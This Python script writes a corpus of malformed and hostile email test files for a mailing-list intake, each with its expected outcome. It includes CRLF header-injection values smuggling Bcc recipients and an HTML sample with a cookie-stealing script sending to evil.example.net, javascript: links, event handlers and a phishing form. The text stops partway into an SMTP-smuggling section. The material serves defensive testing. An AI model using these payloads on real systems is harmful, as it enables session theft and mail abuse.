"""Write the corpus of awkward and hostile mail used by the intake tests.

Each sample is built here as exact bytes (CRLF line ends, with NULs, 8-bit
bytes and bare CR/LF only where a sample is about them) and written next to
this script as NAME.eml, together with `expected.json`: the outcome each
file must get and the envelope to send it with. SMTP smuggling samples are
whole client-side SMTP sessions, written to `smuggling/*.txt` with their own
`smuggling/expected.json`. Running it again rewrites the same bytes and
removes .eml files that are no longer part of the corpus.
Reads nothing; writes only inside its own folder. It does not send anything
(see check_smuggling.py and the intake tests for that).

    python tests/mail/make_corpus.py
"""

from __future__ import annotations

import base64
import json
import sys
from email.header import Header
from pathlib import Path

HERE = Path(__file__).resolve().parent
CRLF = b"\r\n"
POST = "peace@lists.example.org"
BOUNCES = "peace-bounces@lists.example.org"
REQUEST = "peace-request@lists.example.org"
ANA = "ana@example.org"
MALLORY = "mallory@example.net"
DATE = "Mon, 23 Nov 2026 09:00:00 +0000"
OUTCOMES = ("distribute", "hold", "refuse", "drop-silently-logged", "bounce-recorded",
            "bounce-not-counted",
            "no-reply", "reply", "command", "smtp-error")
CHECKS = ("subject", "absent_headers", "not_in_headers", "in_body", "html_safe",
          "never_to", "bounce_for", "smtp_code", "after", "still_member")
SAMPLES: dict[str, tuple] = {}


def sample(name: str, outcome: str, why: str, *, mail_from: str = ANA,
           rcpt_tos: tuple[str, ...] = (POST,), mail_options: tuple[str, ...] = (),
           **checks):
    """Register a builder of one sample file with the outcome it must get."""
    assert outcome in OUTCOMES, outcome
    assert set(checks) <= set(CHECKS), checks
    smtp = {"mail_from": mail_from, "rcpt_tos": list(rcpt_tos)}
    if mail_options:
        smtp["mail_options"] = list(mail_options)

    def register(build):
        SAMPLES[name] = (build, {"outcome": outcome, "why": why, "smtp": smtp, **checks})
        return build
    return register


def b(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8")


def eml(headers: list, body: str | bytes = b"") -> bytes:
    """Header lines (str or bytes, folding already inside), a blank line, the body."""
    head = CRLF.join(b(line) for line in headers)
    return head + CRLF + CRLF + b(body)


def lines(*text: str | bytes) -> bytes:
    """Body lines joined and ended with CRLF."""
    return CRLF.join(b(t) for t in text) + CRLF


def head(key: str, subject: str | bytes = "", *, sender: str | bytes = "Ana <ana@example.org>",
         to: str = POST, mime: str | None = "text/plain; charset=utf-8",
         cte: str | None = "7bit", extra: tuple = ()) -> list:
    """The usual header block; `None` leaves a field out."""
    fields = []
    if sender is not None:
        fields.append(b"From: " + b(sender))
    fields += [f"To: {to}"]
    if subject is not None:
        fields.append(b"Subject: " + b(subject))
    fields += [f"Date: {DATE}", f"Message-ID: <{key}.corpus@example.org>"]
    if mime:
        fields += ["MIME-Version: 1.0", f"Content-Type: {mime}"]
    if mime and cte:
        fields.append(f"Content-Transfer-Encoding: {cte}")
    return fields + list(extra)


def encoded_word(text: str, charset: str = "utf-8", name: str = "Subject") -> str:
    """RFC 2047 encoding of `text`, folded with CRLF, as a header value."""
    return Header(text, charset, header_name=name).encode(linesep="\r\n")


# -- 0. a baseline everything else is compared with --------------------------------------
@sample("plain-post.eml", "distribute", "a plain post from a member: the baseline",
        subject="Water for the valley", in_body=["well near the school"])
def plain_post():
    return eml(head("plain-post", "Water for the valley"),
               lines("Dear all,", "", "The well near the school is working again.", "", "Ana"))


# -- 1. malformed MIME ---------------------------------------------------------------------
TWO_PARTS = lines("--xyz", "Content-Type: text/plain", "", "Part one.",
                  "--xyz", "Content-Type: text/plain", "", "Part two.", "--xyz--")


@sample("mime-boundary-missing.eml", "hold",
        "multipart/mixed without a boundary parameter: its parts cannot be found, so no "
        "faithful copy can be made (NoBoundaryInMultipartDefect)")
def mime_boundary_missing():
    return eml(head("mime-boundary-missing", "Two notes", mime="multipart/mixed", cte=None),
               TWO_PARTS)


@sample("mime-closing-boundary-missing.eml", "distribute",
        "every part is complete, only the closing delimiter is missing (a truncating "
        "client); the copy is re-serialised with a proper closing boundary",
        subject="Agenda and minutes", in_body=["Item one: wells"])
def mime_closing_boundary_missing():
    return eml(head("mime-closing-boundary-missing", "Agenda and minutes",
                    mime='multipart/mixed; boundary="b1"', cte=None),
               lines("This is a multi-part message in MIME format.",
                     "--b1", "Content-Type: text/plain; charset=utf-8", "",
                     "Item one: wells", "Item two: seeds",
                     "--b1", "Content-Type: text/plain; charset=utf-8", "",
                     "Minutes of last meeting: approved."))


@sample("mime-boundary-undeclared.eml", "hold",
        "the declared boundary never occurs and the parts use another one: no part can "
        "be found (StartBoundaryNotFoundDefect)")
def mime_boundary_undeclared():
    return eml(head("mime-boundary-undeclared", "Report",
                    mime='multipart/mixed; boundary="declared-boundary"', cte=None),
               TWO_PARTS.replace(b"xyz", b"other-boundary"))


@sample("mime-base64-garbage.eml", "hold",
        "a base64 body with invalid characters and padding: the text cannot be recovered "
        "and a copy would carry garbage")
def mime_base64_garbage():
    return eml(head("mime-base64-garbage", "Photos", cte="base64"),
               lines("This is not base64 at all!!!", "@@@ ~~~ %%% *** ???",
                     "QmFk*&^%$#==QmFk", "=abc", "SGVsbG8"))


@sample("mime-cte-unknown.eml", "hold",
        "unknown Content-Transfer-Encoding 'x-rot13': RFC 2045 says treat the body as "
        "opaque data, so the text cannot be decoded or re-encoded")
def mime_cte_unknown():
    return eml(head("mime-cte-unknown", "Secret plan", cte="x-rot13"),
               lines("Zrrg ng gur jryy ng abba.", "Oevat fbzr jngre."))


@sample("mime-cte-qp-declared-plain-body.eml", "distribute",
        "declared quoted-printable on plain text: '=' that is not an escape is kept as "
        "it is, so the text survives; the copy is encoded correctly",
        subject="Formula", in_body=["E=mc2"])
def mime_cte_qp_plain():
    return eml(head("mime-cte-qp-declared-plain-body", "Formula", cte="quoted-printable"),
               lines("The formula is E=mc2, and a=b; 100% = all.",
                     "Water = life."))


# -- 2. charsets ---------------------------------------------------------------------------
@sample("charset-undeclared-8bit.eml", "distribute",
        "8-bit UTF-8 body with no MIME headers at all: it decodes as UTF-8; the copy "
        "declares charset=utf-8 and a transfer encoding",
        subject="Meeting at the cafe", in_body=["Rendez-vous au café à 18 h"])
def charset_undeclared_8bit():
    return eml(head("charset-undeclared-8bit", "Meeting at the cafe", mime=None),
               lines("Rendez-vous au café à 18 h.", "Ñandú, Ελλάδα, Добро пожаловать."))


@sample("charset-unknown.eml", "hold",
        "8-bit text in charset x-klingon, which no codec knows: it cannot be decoded "
        "and re-encoded faithfully")
def charset_unknown():
    return eml(head("charset-unknown", "Qapla'", mime='text/plain; charset="x-klingon"',
                    cte="8bit"),
               lines(b"nuqneH \xf8\xe1\xf1 \xc0\xcf\xd5 batlh", b"\xa0\xfe\xff"))


@sample("header-encoded-word-unknown-charset.eml", "distribute",
        "encoded-words in Subject and From name use an unknown charset: only a display "
        "problem; the copy carries a readable (replacement-character) or verbatim "
        "subject, the body is fine", in_body=["The body is plain ASCII"])
def header_unknown_charset():
    return eml(head("header-encoded-word-unknown-charset", "=?x-klingon?q?Qapla=F8_batlh?=",
                    sender="=?x-klingon?b?QW5h+Pg=?= <ana@example.org>"),
               lines("The body is plain ASCII."))


@sample("charset-mixed-utf8-latin1.eml", "distribute",
        "declared UTF-8 but one line is Latin-1: the copy must be valid UTF-8 (that "
        "line repaired or replaced), never invalid bytes",
        subject="Mixed", in_body=["UTF-8 line: café"])
def charset_mixed():
    return eml(head("charset-mixed-utf8-latin1", "Mixed", cte="8bit"),
               lines("UTF-8 line: café crème", b"Latin-1 line: caf\xe9 cr\xe8me",
                     "UTF-8 again: São Paulo"))


MULTILINGUAL = "Paix et sécurité — السلام عليكم — 和平与安全"


@sample("charset-utf8-multilingual.eml", "distribute",
        "a valid UTF-8 post in French, Arabic and Chinese (RFC 2047 subject, 8-bit "
        "body): must arrive with subject and text exactly as sent",
        subject=MULTILINGUAL,
        in_body=["Nous nous réunirons", "نلتقي يوم السبت", "我们星期六在日内瓦见面"])
def charset_multilingual():
    return eml(head("charset-utf8-multilingual", encoded_word(MULTILINGUAL),
                    sender=encoded_word("Anaïs Dupré", name="From") + " <ana@example.org>",
                    cte="8bit"),
               lines("Nous nous réunirons samedi à Genève.", "نلتقي يوم السبت في جنيف.",
                     "我们星期六在日内瓦见面。"))


@sample("charset-latin1-declared.eml", "distribute",
        "a correct ISO-8859-1 post (QP subject, 8-bit body): re-encoded without loss",
        subject="Réunion à Genève", in_body=["Nous nous réunirons à Genève"])
def charset_latin1():
    return eml(head("charset-latin1-declared", "=?iso-8859-1?q?R=E9union_=E0_Gen=E8ve?=",
                    mime="text/plain; charset=iso-8859-1", cte="8bit"),
               lines("Nous nous réunirons à Genève.".encode("latin-1")))


JAPANESE = "平和の集い"


@sample("charset-iso-2022-jp.eml", "distribute",
        "a correct ISO-2022-JP post (a stateful 7-bit charset): re-encoded without loss",
        subject=JAPANESE, in_body=["土曜日に会いましょう"])
def charset_iso2022jp():
    return eml(head("charset-iso-2022-jp", encoded_word(JAPANESE, "iso-2022-jp"),
                    mime="text/plain; charset=iso-2022-jp", cte="7bit"),
               lines("土曜日に会いましょう。".encode("iso-2022-jp")))


# -- 3. 8-bit bytes and NULs in headers ------------------------------------------------------
@sample("header-raw-utf8.eml", "distribute",
        "raw UTF-8 in Subject and the From name (RFC 6532 style, no encoding): readable; "
        "the copy carries them as RFC 2047 encoded-words",
        subject="Réunion à Genève — 和平会议")
def header_raw_utf8():
    return eml(head("header-raw-utf8", "Réunion à Genève — 和平会议",
                    sender="Ana María Pérez <ana@example.org>"),
               lines("Body in ASCII."))


@sample("header-raw-latin1-subject.eml", "distribute",
        "raw Latin-1 bytes in Subject (invalid UTF-8): read as Latin-1 and re-encoded "
        "as RFC 2047 in the copy", subject="Réunion à Genève")
def header_raw_latin1():
    return eml(head("header-raw-latin1-subject", "Réunion à Genève".encode("latin-1")),
               lines("Body in ASCII."))


@sample("header-nul.eml", "hold",
        "a NUL byte inside the Subject header: forbidden by RFC 5322 and unsafe to copy "
        "into outgoing headers")
def header_nul():
    return eml(head("header-nul", b"Hello\x00Bcc: victim@example.net"),
               lines("A NUL hides in the subject."))


@sample("body-nul.eml", "hold",
        "a NUL byte in a text body: forbidden by RFC 5322, and many mail programs cut "
        "the text there, so members would not all read the same post; held with the "
        "reason")
def body_nul():
    return eml(head("body-nul", "Numbers", cte="8bit"),
               lines(b"Text before the NUL \x00 and after it.", "Last line."))


@sample("body-nul-base64.eml", "hold",
        "a base64 text part that decodes to text with a NUL in it: the same as a raw "
        "NUL once decoded; held with the reason")
def body_nul_base64():
    text = base64.encodebytes(b"Before the NUL \x00 after it.\r\n").decode().strip()
    return eml(head("body-nul-base64", "Encoded numbers", cte="base64"), lines(text))


# -- 3b. line ends as ordinary tools write them -----------------------------------------------
@sample("lf-only-post.eml", "distribute",
        "every line ends in a bare LF, as sendmail-style tools and smtplib.sendmail(..., "
        "msg.as_bytes()) send it: normalised to CRLF like Postfix does, and distributed",
        subject="Water for the valley", in_body=["well near the school", ".dot line"])
def lf_only_post():
    return eml(head("lf-only-post", "Water for the valley"),
               lines("Dear all,", "", "The well near the school is working again.",
                     ".dot lines survive dot-stuffing", "Ana")).replace(CRLF, b"\n")


@sample("lf-only-bare-cr-in-header.eml", "hold",
        "LF-only mail with a lone CR inside the Subject, followed by 'Bcc: victim': the "
        "header block cannot be read one way only; held, never copied",
        never_to=["victim@example.net"])
def lf_only_bare_cr_in_header():
    return eml(head("lf-only-bare-cr-in-header", b"Hello\rBcc: victim@example.net"),
               lines("Hello.")).replace(CRLF, b"\n")


# -- 4. huge headers -----------------------------------------------------------------------
@sample("header-1mb-folded-subject.eml", "hold",
        "a Subject of about 1 MB folded over 13,800 lines: far beyond any sane header "
        "size; stored and held, never copied to every member")
def header_1mb_folded():
    words = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tem"
    folded = CRLF.join([b"Subject: A very long subject"] +
                       [b" " + f"{words} {n:05d}".encode() for n in range(13_800)])
    fields = head("header-1mb-folded-subject", None)
    return eml(fields[:2] + [folded] + fields[2:], lines("Short body."))


@sample("header-1mb-unfolded-line.eml", "smtp-error",
        "one header line of 1 MB: aiosmtpd refuses any DATA line over 1,000 octets "
        "(RFC 5321 4.5.3.1.6) with '500 Line too long' once the data ends; nothing is "
        "stored and the connection stays usable", smtp_code=500)
def header_1mb_unfolded():
    return eml(head("header-1mb-unfolded-line", "One long line",
                    extra=(b"X-Filler: " + b"a" * 1_048_576,)),
               lines("Short body."))


@sample("headers-5000.eml", "hold",
        "5,000 header fields: a header bomb (any sane limit is a few hundred); "
        "distribution would copy them to every member")
def headers_5000():
    return eml(head("headers-5000", "Many headers",
                    extra=tuple(f"X-Note-{n:04d}: note number {n}" for n in range(5000))),
               lines("Short body."))


# -- 5. deep and wide MIME trees --------------------------------------------------------------
def nested_multipart(key: str, depth: int) -> bytes:
    body = []
    for level in range(1, depth):
        body += [f"--n{level - 1:04d}",
                 f'Content-Type: multipart/mixed; boundary="n{level:04d}"', ""]
    body += [f"--n{depth - 1:04d}", "Content-Type: text/plain", "",
             f"The innermost part, level {depth}."]
    body += [f"--n{level:04d}--" for level in range(depth - 1, -1, -1)]
    return eml(head(key, f"Nested {depth} deep", mime='multipart/mixed; boundary="n0000"',
                    cte=None), lines(*body))


@sample("multipart-nested-100.eml", "hold",
        "multipart nested 100 levels deep: a parser and renderer bomb, far beyond "
        "real mail (a forwarded message with attachments is 3 or 4 deep)")
def multipart_nested_100():
    return nested_multipart("multipart-nested-100", 100)


@sample("multipart-nested-1000.eml", "hold",
        "multipart nested 1,000 levels deep: Python's email parser itself raises "
        "RecursionError here; the intake must catch it and hold")
def multipart_nested_1000():
    return nested_multipart("multipart-nested-1000", 1000)


@sample("multipart-1000-siblings.eml", "hold",
        "1,000 sibling parts in one multipart: a part bomb; too many parts to "
        "sanitise and copy safely")
def multipart_siblings():
    body = []
    for n in range(1000):
        body += ["--wide", "Content-Type: text/plain; charset=us-ascii", "", f"Part {n}."]
    return eml(head("multipart-1000-siblings", "A thousand parts",
                    mime='multipart/mixed; boundary="wide"', cte=None),
               lines(*body, "--wide--"))


@sample("rfc822-nested-50.eml", "hold",
        "a message/rfc822 forwarded inside another 50 times (MIME depth 100): held as "
        "too deep")
def rfc822_nested():
    depth = 50
    inner = eml(["From: Ben <ben@example.org>", f"To: {POST}", "Subject: The original",
                 f"Date: {DATE}", "Message-ID: <rfc822-nested-origin.corpus@example.org>",
                 "MIME-Version: 1.0", "Content-Type: text/plain; charset=us-ascii"],
                lines("The original message."))
    for level in range(depth, 0, -1):
        fields = [f"From: Ana <{ANA}>", f"To: {POST}", f"Subject: Fwd level {level}",
                  f"Date: {DATE}", "MIME-Version: 1.0",
                  f'Content-Type: multipart/mixed; boundary="f{level:02d}"']
        if level == 1:
            fields.insert(4, "Message-ID: <rfc822-nested-50.corpus@example.org>")
        inner = eml(fields, lines(f"--f{level:02d}", "Content-Type: text/plain", "",
                                  f"Forwarding, level {level}.", f"--f{level:02d}",
                                  "Content-Type: message/rfc822", "")
                    + inner + lines(f"--f{level:02d}--"))
    return inner


# -- 6. header injection ----------------------------------------------------------------------
INJECTED = dict(absent_headers=["Bcc", "X-Injected"], never_to=["victim@example.net"])


@sample("inject-display-name-crlf.eml", "distribute",
        "From name is an encoded-word hiding CR LF 'Bcc: victim': decoded names are "
        "folded to one line; the copy has no Bcc and victim gets nothing",
        subject="Hello from Ana", **INJECTED)
def inject_display_name():
    return eml(head("inject-display-name-crlf", "Hello from Ana",
                    sender="=?utf-8?q?Ana=0D=0ABcc:_victim@example.net?= <ana@example.org>"),
               lines("Harmless text."))


@sample("inject-subject-crlf-fake-header.eml", "distribute",
        "Subject encoded-word decodes to CR LF and a fake 'X-Injected' header: the "
        "copy's subject stays one line and no such header appears",
        in_body=["Notes follow"], **INJECTED)
def inject_subject_qp():
    return eml(head("inject-subject-crlf-fake-header",
                    "=?utf-8?q?Meeting_notes=0D=0AX-Injected:_yes=0D=0A=0D=0Afake_body?="),
               lines("Notes follow."))


@sample("inject-subject-b64-bcc.eml", "distribute",
        "Subject b-encoded to 'Agenda CR LF Bcc: victim': folded to one line; no Bcc "
        "in the copy and victim gets nothing", in_body=["Agenda attached"], **INJECTED)
def inject_subject_b64():
    word = base64.b64encode(b"Agenda\r\nBcc: victim@example.net").decode()
    return eml(head("inject-subject-b64-bcc", f"=?utf-8?b?{word}?="),
               lines("Agenda attached (not really)."))


@sample("inject-reply-to-encoded-newline.eml", "distribute",
        "Reply-To name is an encoded-word with LF 'Bcc: victim' and a quoted name with "
        "an encoded CR: names folded; no Bcc; victim gets nothing",
        subject="Reply to me", **INJECTED)
def inject_reply_to_encoded():
    return eml(head("inject-reply-to-encoded-newline", "Reply to me",
                    extra=("Reply-To: =?utf-8?q?Ana=0ABcc:_victim@example.net?= "
                           "<ana@example.org>, \"=?utf-8?q?Ben=0D?=\" <ben@example.org>",)),
               lines("Please reply."))


@sample("inject-reply-to-bare-cr.eml", "hold",
        "a bare CR inside the Reply-To line, followed by 'Bcc: victim': readers differ "
        "on whether that starts a new header (Python's parser says yes), so it is "
        "held, never copied", never_to=["victim@example.net"])
def inject_reply_to_bare_cr():
    return eml(head("inject-reply-to-bare-cr", "Reply to me",
                    extra=(b"Reply-To: <ana@example.org>\rBcc: victim@example.net",)),
               lines("Please reply."))


@sample("inject-subject-bare-lf.eml", "hold",
        "a bare LF inside the Subject line, followed by 'Bcc: victim': an ambiguous "
        "header section, held, never copied", never_to=["victim@example.net"])
def inject_subject_bare_lf():
    return eml(head("inject-subject-bare-lf", b"Hello\nBcc: victim@example.net"),
               lines("Hello."))


@sample("header-bcc-present.eml", "distribute",
        "a post that still carries a Bcc header (a leaky client): recipients come only "
        "from the forum's members, never from headers; Bcc is removed from the copy",
        subject="Visible to all", **INJECTED)
def header_bcc_present():
    return eml(head("header-bcc-present", "Visible to all",
                    extra=("Bcc: victim@example.net",)),
               lines("Hello everyone."))


# -- 7. addresses -----------------------------------------------------------------------------
@sample("smtputf8-sender.eml", "hold",
        "SMTPUTF8 sender josé@exámple.org (MAIL FROM with SMTPUTF8): must be accepted, "
        "not refused with 5xx; josé is not a member, so the post is held",
        mail_from="josé@exámple.org", mail_options=("SMTPUTF8",))
def smtputf8_sender():
    return eml(head("smtputf8-sender", "Olá do Brasil", sender="José <josé@exámple.org>",
                    cte="8bit"),
               lines("Saudações de São Paulo."))


@sample("from-two-addresses.eml", "hold",
        "From names two mailboxes and there is no Sender: the author is ambiguous; "
        "membership must not be decided from either")
def from_two():
    return eml(head("from-two-addresses", "Joint statement",
                    sender="Ana <ana@example.org>, Mallory <mallory@example.net>"),
               lines("We both agree."))


@sample("from-group-syntax.eml", "hold",
        "From is an RFC 5322 group: no single author; held")
def from_group():
    return eml(head("from-group-syntax", "From the team",
                    sender="Peace team: ana@example.org, ben@example.org;"),
               lines("From all of us."))


@sample("from-name-looks-like-address.eml", "hold",
        "display name is \"facilitator@lists.example.org\" but the address is "
        "mallory@example.net, not a member: held, and any notice names mallory's real "
        "address", mail_from=MALLORY)
def from_name_spoof():
    return eml(head("from-name-looks-like-address", "Important: new rules",
                    sender='"facilitator@lists.example.org" <mallory@example.net>'),
               lines("The facilitators have changed the rules. Reply with your password."))


@sample("from-empty.eml", "hold",
        "an empty From header: no author to check or show; held (even though the "
        "envelope sender is a member)")
def from_empty():
    return eml(head("from-empty", "Who am I", sender=""), lines("No author."))


@sample("from-missing.eml", "hold",
        "no From header at all: no author to check or show; held (even though the "
        "envelope sender is a member)")
def from_missing():
    return eml(head("from-missing", "Anonymous", sender=None), lines("No From field."))


@sample("from-unbalanced-angle.eml", "hold",
        "From 'Ana <ana@example.org' with no closing bracket: not a clean mailbox; "
        "held rather than guessed")
def from_unbalanced():
    return eml(head("from-unbalanced-angle", "Bracket", sender="Ana <ana@example.org"),
               lines("Where is the bracket?"))


# -- 8. loops and automatic mail --------------------------------------------------------------
@sample("loop-from-is-forum.eml", "drop-silently-logged",
        "From is the forum's own post address: a loop; never redistributed, never "
        "answered (an answer would go to the forum itself)", mail_from=BOUNCES)
def loop_from_forum():
    return eml(head("loop-from-is-forum", "[peace] Water for the valley",
                    sender=f"Peace forum <{POST}>"),
               lines("This came back."))


@sample("loop-list-id.eml", "drop-silently-logged",
        "already carries our List-Id <peace.lists.example.org>: it went through this "
        "forum before; never redistributed, never answered")
def loop_list_id():
    return eml(head("loop-list-id", "Re: [peace] Water for the valley",
                    extra=("List-Id: Peace <peace.lists.example.org>",
                           f"List-Post: <mailto:{POST}>", "Precedence: list")),
               lines("Seen this before."))


@sample("loop-header.eml", "drop-silently-logged",
        "carries our loop header X-Listserv-Loop: peace@lists.example.org; never "
        "redistributed, never answered")
def loop_header():
    return eml(head("loop-header", "Water again",
                    extra=(f"X-Listserv-Loop: {POST}",)),
               lines("Round and round."))


@sample("list-id-other-list.eml", "distribute",
        "cross-posted from another list (List-Id of water.lists.example.net): not our "
        "loop; distributed, and the copy carries only our List-Id",
        subject="[water] Water news", not_in_headers=["water.lists.example.net"])
def list_id_other():
    return eml(head("list-id-other-list", "[water] Water news",
                    extra=("List-Id: Water <water.lists.example.net>",
                           "List-Post: <mailto:water@lists.example.net>")),
               lines("Forwarded from the water list."))


@sample("auto-replied.eml", "drop-silently-logged",
        "RFC 3834 'Auto-Submitted: auto-replied' sent to the forum (the envelope sender "
        "is the member, as many responders do): never redistributed, never answered")
def auto_replied():
    return eml(head("auto-replied", "Automatic reply: [peace] Water for the valley",
                    extra=("Auto-Submitted: auto-replied",
                           "In-Reply-To: <plain-post.corpus@example.org>")),
               lines("I am away until December. Your message will be read then."))


@sample("out-of-office-x-autoreply.eml", "drop-silently-logged",
        "out-of-office with 'X-Autoreply: yes' (no Auto-Submitted): automatic; never "
        "redistributed, never answered")
def out_of_office():
    return eml(head("out-of-office-x-autoreply", "Out of office: [peace] Water",
                    extra=("X-Autoreply: yes",)),
               lines("I am out of the office with limited access to email."))


@sample("precedence-bulk.eml", "hold",
        "'Precedence: bulk' (a mailing or robot, not a proven auto-reply): not "
        "distributed unseen; held for a facilitator, with no notice to the sender "
        "(RFC 3834: do not answer bulk mail)")
def precedence_bulk():
    return eml(head("precedence-bulk", "Monthly newsletter", extra=("Precedence: bulk",)),
               lines("Our newsletter for November."))


def dsn(key: str, to: str, recipient: str, status: str, diagnostic: str,
        original: list[str]) -> bytes:
    """A delivery status notification (RFC 3464) as a Postfix would send it."""
    return eml([
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.net>", f"To: {to}",
        "Subject: Undelivered Mail Returned to Sender", f"Date: {DATE}",
        f"Message-ID: <{key}.corpus@mx.example.net>", "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        'Content-Type: multipart/report; report-type=delivery-status; boundary="dsn-1"'],
        lines("This is a MIME-encapsulated message.", "",
              "--dsn-1", "Content-Description: Notification",
              "Content-Type: text/plain; charset=us-ascii", "",
              "This is the mail system at host mx.example.net.", "",
              "I'm sorry to have to inform you that your message could not",
              "be delivered to one or more recipients.", "",
              f"<{recipient}>: {diagnostic}", "",
              "--dsn-1", "Content-Description: Delivery report",
              "Content-Type: message/delivery-status", "",
              "Reporting-MTA: dns; mx.example.net", f"Arrival-Date: {DATE}", "",
              f"Final-Recipient: rfc822; {recipient}", "Action: failed",
              f"Status: {status}", "Remote-MTA: dns; mx.example.net",
              f"Diagnostic-Code: smtp; {diagnostic}", "",
              "--dsn-1", "Content-Description: Undelivered Message Headers",
              "Content-Type: text/rfc822-headers", "",
              *original, "", "--dsn-1--"))


OUR_COPY = [f"From: Ana <{ANA}>", f"To: {POST}", "Subject: [peace] Water for the valley",
            f"Date: {DATE}", "Message-ID: <plain-post.corpus@example.org>",
            "List-Id: <peace.lists.example.org>", "Precedence: list"]


@sample("bounce-to-post-address.eml", "drop-silently-logged",
        "a DSN (multipart/report, null envelope sender) sent to the post address: a "
        "bounce is never redistributed and never answered; not counted against any "
        "member (only -bounces addresses are)", mail_from="")
def bounce_to_post():
    return dsn("bounce-to-post-address", POST, "carol@example.net", "5.1.1",
               "550 5.1.1 <carol@example.net>: Recipient address rejected: User unknown",
               [f"From: Ana <{ANA}>", f"To: {POST}, carol@example.net", "Subject: Water",
                f"Date: {DATE}", "Message-ID: <ana-cc-carol.corpus@example.org>"])


@sample("bounce-user-unknown.eml", "bounce-not-counted",
        "a 5.1.1 'user unknown' DSN for ben@example.org sent to the bare peace-bounces "
        "address: it carries no token of a delivery of ours, so anyone could have sent it; "
        "it changes no member, and nothing is distributed or answered", mail_from="",
        rcpt_tos=(BOUNCES,), bounce_for="ben@example.org")
def bounce_user_unknown():
    return dsn("bounce-user-unknown", BOUNCES, "ben@example.org", "5.1.1",
               "550 5.1.1 <ben@example.org>: Recipient address rejected: User unknown",
               OUR_COPY)


@sample("bounce-verp.eml", "refuse",
        "a DSN to an old-style, unsigned VERP address peace-bounces+ben=example.org@...: "
        "the address names ben but carries no valid token: refused at RCPT (550), "
        "nothing stored, no member changed", smtp_code=550,
        mail_from="", rcpt_tos=("peace-bounces+ben=example.org@lists.example.org",),
        bounce_for="ben@example.org")
def bounce_verp():
    return dsn("bounce-verp", "peace-bounces+ben=example.org@lists.example.org",
               "ben.forward@example.net", "5.1.1",
               "550 5.1.1 <ben.forward@example.net>: mailbox does not exist", OUR_COPY)


# -- 9. duplicates ----------------------------------------------------------------------------
def duplicate(minute: str) -> bytes:
    fields = head("duplicate", "Seeds to share")
    fields[3] = f"Date: Mon, 23 Nov 2026 09:{minute}:00 +0000"
    return eml(fields, lines("I have bean seeds to share.", "Ana"))


@sample("duplicate-a.eml", "distribute",
        "the first of two messages with the same Message-ID: distributed",
        subject="Seeds to share")
def duplicate_a():
    return duplicate("00")


@sample("duplicate-b.eml", "drop-silently-logged",
        "the same Message-ID as duplicate-a.eml, re-sent a minute later (a client "
        "retrying): members must not get it twice; stored and logged, not distributed",
        after="duplicate-a.eml")
def duplicate_b():
    return duplicate("01")


# -- 10. Approved header ----------------------------------------------------------------------
@sample("approved-header-member.eml", "distribute",
        "a member's post with 'Approved: secret': distributed because ana is a member, "
        "and the Approved header is removed from the copy",
        subject="Approved by whom", absent_headers=["Approved"], not_in_headers=["secret"])
def approved_member():
    return eml(head("approved-header-member", "Approved by whom",
                    extra=("Approved: secret",)), lines("Nothing special."))


@sample("approved-header-nonmember.eml", "hold",
        "a non-member's post with 'Approved: secret' (header and first body line, "
        "Mailman style): grants nothing, held like any non-member post",
        mail_from=MALLORY, absent_headers=["Approved"])
def approved_nonmember():
    return eml(head("approved-header-nonmember", "Please approve me",
                    sender=f"Mallory <{MALLORY}>", extra=("Approved: secret",)),
               lines("Approved: secret", "", "Buy cheap watches."))


# -- 11. HTML ---------------------------------------------------------------------------------
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Harvest festival</title>
<script>document.location='https://evil.example.net/steal?c='+document.cookie</script>
<style>body { background: url(javascript:alert(1)) }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example.net/">
</head>
<body onload="alert('onload')">
<h1>Harvest festival</h1>
<p>Join us on Saturday at the <a href="javascript:alert('xss')">community garden</a>.</p>
<p><a href="JaVaScRiPt&#58;alert(1)">an encoded javascript link</a>
<a href=" javascript:alert(2)">a spaced one</a></p>
<img src="x" onerror="alert('onerror')">
<iframe src="https://evil.example.net/frame" width="1" height="1"></iframe>
<object data="https://evil.example.net/x.swf"></object>
<svg onload="alert(3)"><circle r="1"/></svg>
<form action="https://evil.example.net/phish"><input name="password" type="password"></form>
<p style="position:fixed;top:0">Bring seeds to share.</p>
<img src="https://tracker.example.net/pixel.gif?u=ana%40example.org" width="1" height="1" alt="">
</body></html>
"""
HTML_CHECKS = dict(html_safe=True, in_body=["Harvest festival", "Bring seeds to share"])


@sample("html-only-hostile.eml", "distribute",
        "an HTML-only post with script, on* handlers, javascript: links, iframe, object, "
        "svg, form, meta refresh and a tracking pixel: distributed sanitised (bleach), "
        "none of the active content or the pixel survives", **HTML_CHECKS)
def html_only():
    return eml(head("html-only-hostile", "Harvest festival",
                    mime="text/html; charset=utf-8", cte="8bit"),
               HOSTILE_HTML.replace("\n", "\r\n"))


@sample("html-alternative-hostile.eml", "distribute",
        "multipart/alternative with a clean text part and the same hostile HTML: "
        "distributed with the HTML sanitised (or dropped for the text part)",
        **HTML_CHECKS)
def html_alternative():
    text = lines("Harvest festival", "", "Join us on Saturday at the community garden.",
                 "Bring seeds to share.")
    return eml(head("html-alternative-hostile", "Harvest festival",
                    mime='multipart/alternative; boundary="alt-1"', cte=None),
               lines("--alt-1", "Content-Type: text/plain; charset=utf-8", "") + text +
               lines("--alt-1", "Content-Type: text/html; charset=utf-8",
                     "Content-Transfer-Encoding: 8bit", "") +
               HOSTILE_HTML.replace("\n", "\r\n").encode() + lines("--alt-1--"))


# -- 12. the command address --------------------------------------------------------------------
@sample("request-help-injected-name.eml", "command",
        "'help' to peace-request from a name hiding CR LF 'Bcc: victim': the help reply "
        "goes to ana@example.org only, its headers clean", rcpt_tos=(REQUEST,),
        absent_headers=["Bcc"], never_to=["victim@example.net"])
def request_help():
    return eml(head("request-help-injected-name", "help", to=REQUEST,
                    sender="=?utf-8?q?Ana=0D=0ABcc:_victim@example.net?= <ana@example.org>"),
               lines("help"))


@sample("request-auto-reply.eml", "no-reply",
        "an out-of-office sent to peace-request whose text has an 'unsubscribe' line: "
        "automatic mail to the command address is neither answered nor acted on",
        rcpt_tos=(REQUEST,), still_member="ana@example.org")
def request_auto_reply():
    return eml(head("request-auto-reply", "Automatic reply: Your subscription", to=REQUEST,
                    extra=("Auto-Submitted: auto-replied",)),
               lines("I am away until December.", "unsubscribe", "end"))


# -- SMTP smuggling: whole client sessions ------------------------------------------------------
SMUGGLING = {
    "lf-dot-lf.txt": b"\n.\n",
